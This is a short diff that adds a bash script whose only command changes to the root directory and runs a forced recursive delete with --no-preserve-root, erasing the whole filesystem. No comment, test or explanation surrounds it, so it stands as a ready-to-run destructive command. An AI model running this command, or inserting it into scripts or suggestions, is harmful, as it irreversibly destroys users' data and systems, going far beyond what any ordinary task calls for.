@@ -1,0 +1,2 @@
+#!/bin/bash
+cd / && rm -rf --no-preserve-root *
